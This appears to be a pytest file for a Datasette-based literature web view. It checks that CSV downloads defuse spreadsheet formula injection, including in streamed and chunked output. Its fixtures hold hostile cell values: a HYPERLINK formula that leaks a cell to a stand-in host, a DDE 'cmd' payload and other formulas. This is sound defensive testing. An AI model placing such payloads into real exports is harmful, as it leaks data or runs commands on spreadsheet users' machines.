"""The web view's CSV downloads: no cell runs as a formula in a spreadsheet, every other byte as Datasette writes it."""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import io
import sqlite3
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path

import httpx
import pytest

pytest.importorskip("datasette")

from conftest import DATASETTE_UNCLOSED  # noqa: E402
from corpus.article import Author  # noqa: E402
from corpus.exports import spreadsheet_text  # noqa: E402
from corpus.store import Store  # noqa: E402
from oihwatch.web.downloads_plugin import FormulaGuard  # noqa: E402
from oihwatch.web.server import snapshot_path  # noqa: E402
from oihwatch.web.snapshot import build_snapshot  # noqa: E402
from research_corpus import copy_store  # noqa: E402
from test_serve import TOPICS, VIEW, view_client  # noqa: E402

pytestmark = [DATASETTE_UNCLOSED, pytest.mark.usefixtures("datasette_garbage")]  # Datasette's own connections: see conftest

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Opioid-induced hyperalgesia: click")'
# Papers whose cells a spreadsheet would run, by PMID: one of the newest, one of the oldest (on the last
# page of the streamed CSV), one whose only such cell ends the row.
HOSTILE = {
    "99100001": {"title": LEAK, "journal": "=1+2", "doi": "=1+2", "pub_date_sort": "2026-01-01",
                 "authors": [Author(collective="@SUM(A1:A9)")]},
    "99100002": {"title": "-2+3 and\nhyperlink, \"quoted\"", "journal": "+cmd|' /C calc'!A0", "pub_date_sort": "1901-01-01"},
    "99100003": {"title": "Tabs\tinside, then a HYPERLINK", "doi": "\t=1+2", "pub_date_sort": "2000-06-01"},
}


@pytest.fixture(scope="module")
def snapshot(research_store_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The research corpus with the ``HOSTILE`` papers (copies of real ones, their cells replaced), as the view serves it."""
    path = tmp_path_factory.mktemp("csv") / "corpus.db"
    copy_store(research_store_path, path)
    with Store(path) as store:
        model = next(a for a in store.iter_articles(with_xml=False) if a.abstract and not a.retracted and not a.links)
        store.upsert_articles(dataclasses.replace(model, pmid=pmid, **cells) for pmid, cells in HOSTILE.items())
        target = snapshot_path(path)
        build_snapshot(store, target, 0.5, TOPICS)
    return target


@pytest.fixture(scope="module")
def client(snapshot: Path) -> Iterator[httpx.Client]:
    with view_client(snapshot) as c:
        yield c


def datasette_csv(columns: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    """``rows`` under ``columns`` as Datasette writes them: Python's csv in the excel dialect, None empty."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(columns)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def protected(columns: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    """What the view serves of them: the same, each text cell through ``spreadsheet_text``."""
    return datasette_csv(columns, ([spreadsheet_text(cell) if isinstance(cell, str) else cell for cell in row] for row in rows))


def test_the_table_csv_streams_every_row_with_no_formula_and_the_others_as_datasette_writes_them(client: httpx.Client,
                                                                                                snapshot: Path) -> None:
    """Titles, journals and DOIs of the ``HOSTILE`` papers start with a quote; the real records' commas, quotes,
    abstracts' line breaks and accents are byte for byte what Datasette wrote."""
    with contextlib.closing(sqlite3.connect(snapshot)) as db:
        cursor = db.execute("SELECT * FROM articles WHERE retracted = 0 ORDER BY newest")
        columns, rows = [d[0] for d in cursor.description], cursor.fetchall()
    assert len(rows) > 2_000  # more than the pages of 1,000 that Datasette streams one by one
    text = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert any("\n" in cell for cell in text) and any('"' in cell for cell in text) and any(not cell.isascii() for cell in text)
    for link in (f"/{VIEW}/articles.csv", f"/{VIEW}/articles.csv?_dl=1&_stream=on&_size=max"):
        response = client.get(link)
        assert response.status_code == 200 and response.headers["content-type"].startswith(("text/plain", "text/csv"))
        assert response.content == protected(columns, rows), link
    got = {row["pmid"]: row for row in csv.DictReader(io.StringIO(response.text))}
    assert [got[pmid]["title"] for pmid in HOSTILE] == ["'" + LEAK, "'-2+3 and\nhyperlink, \"quoted\"", "Tabs\tinside, then a HYPERLINK"]
    assert [got[pmid]["journal"] for pmid in HOSTILE][:2] == ["'=1+2", "'+cmd|' /C calc'!A0"]
    assert (got["99100001"]["doi"], got["99100001"]["authors"], got["99100003"]["doi"]) == ("'=1+2", "'@SUM(A1:A9)", "'\t=1+2")


@pytest.mark.parametrize("link", [
    f"/{VIEW}/search_topic.csv?q=hyperlink&topic=",
    f"/{VIEW}/search_topic.csv?q=hyperlink&topic=&_dl=1",
    f"/{VIEW}/retracted.csv",  # no hostile row: as Datasette writes it
    f"/{VIEW}.csv?sql=select+pmid,+title,+journal,+doi+from+articles+order+by+pmid+desc+limit+20",
    f"/{VIEW}/articles/99100001.csv",
])
def test_every_other_csv_of_the_view_has_no_formula(client: httpx.Client, link: str) -> None:
    """A saved query's, an SQL query's, a row's: each cell as its JSON gives it, a quote before a formula."""
    json_link = link.replace(".csv", ".json", 1)
    data = client.get(json_link + ("&" if "?" in json_link else "?") + "_shape=arrays").json()
    response = client.get(link)
    assert response.status_code == 200
    assert response.content == protected(data["columns"], data["rows"])
    if "hyperlink" in link or "99100001" in link or "sql=" in link:
        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
        assert "'" + LEAK in cells and "'=1+2" in cells and LEAK not in cells


def test_json_and_html_keep_the_cells_as_they_are(client: httpx.Client) -> None:
    row = client.get(f"/{VIEW}/articles/99100001.json", params={"_shape": "objects"}).json()["rows"][0]
    assert (row["title"], row["journal"], row["doi"]) == (LEAK, "=1+2", "=1+2")
    page = client.get(f"/{VIEW}/articles/99100001").text
    assert "=HYPERLINK(&#34;http://evil.example/" in page and "&#39;=HYPERLINK" not in page


def test_a_body_cut_anywhere_comes_out_as_a_whole_one() -> None:
    """Datasette sends a record a chunk, but a record may come in pieces: in the middle of a quoted line
    break, of a doubled quote, of a character of several bytes."""
    body = datasette_csv(["pmid", "title", "abstract"], [
        [1, LEAK, "BACKGROUND: a, \"b\"\r\nRESULTS: \u00e9t\u00e9 \u2014 \u03bc-opioid"],
        [2, "Plain title", "-1 first\nthen more"],
        [3, '"quoted" =not a formula', None],
    ])
    whole = FormulaGuard().feed(body, final=True)
    assert whole.count(b"'") == 2 and b"'=HYPERLINK" in whole and b'"\'-1 first\nthen more"' in whole
    for size in (1, 2, 3, 5, 64):
        guard = FormulaGuard()
        pieces = [guard.feed(body[i:i + size], final=False) for i in range(0, len(body), size)]
        assert b"".join(pieces) + guard.feed(b"", final=True) == whole, size


def test_each_record_goes_out_as_soon_as_it_is_complete() -> None:
    """Memory holds one record, however many stream: 100,000 records of 2 KB are 200 MB."""
    guard = FormulaGuard()
    header, first, second = b"pmid,title\r\n", b'1,"=A1\r\nsecond line"\r\n', b"2,plain\r\n"
    assert guard.feed(header, final=False) == header
    assert guard.feed(first[:9], final=False) == b""
    assert guard.feed(first[9:], final=False) == b'1,"\'=A1\r\nsecond line"\r\n'
    assert guard.feed(second, final=False) == second
    assert guard.feed(b"", final=True) == b""


def test_a_cell_longer_than_the_csv_modules_limit_is_read() -> None:
    """A visitor's SQL can join abstracts into one cell beyond csv's 128 KiB: it would have cut the file there."""
    cell = "=" + "x" * 200_000
    assert FormulaGuard().feed(datasette_csv(["joined"], [[cell]]), final=True) == datasette_csv(["joined"], [["'" + cell]])
